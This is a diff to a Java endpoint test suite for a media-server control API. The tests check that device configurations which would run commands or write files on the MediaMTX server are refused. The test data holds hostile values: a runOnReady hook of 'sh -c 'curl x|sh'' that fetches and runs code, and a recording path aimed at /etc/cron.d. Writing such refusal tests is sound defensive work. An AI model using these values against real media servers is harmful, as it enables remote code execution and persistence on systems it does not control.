@@ -161,7 +161,17 @@ class EndpointsTest {
     void configurationThatWouldRunCommandsOnTheMediaServerIsRefused() {
         String device = Stubs.plainDevice("off", false, null, "{\"runOnReady\":\"sh -c 'curl x|sh'\"}", List.of());
         given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(400)
-                .body("error", org.hamcrest.Matchers.startsWith("configuration.runOnReady is not allowed"));
+                .body("error", org.hamcrest.Matchers.startsWith("configuration: runOnReady not allowed; allowed are "));
+        assertEquals(0, Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
+    }
+
+    @Test
+    void configurationThatWouldWriteFilesOnTheMediaServerIsRefused() {
+        String device = Stubs.plainDevice("off", false, null,
+                "{\"source\":\"rtsp://$host:8554/cam\",\"record\":true,\"recordPath\":\"/etc/cron.d/%path\"}", List.of());
+        given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(400)
+                .body("error", org.hamcrest.Matchers.containsString("record, recordPath not allowed"))
+                .body("error", org.hamcrest.Matchers.containsString("source, sourceFingerprint, sourceOnDemand"));
         assertEquals(0, Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
     }
 
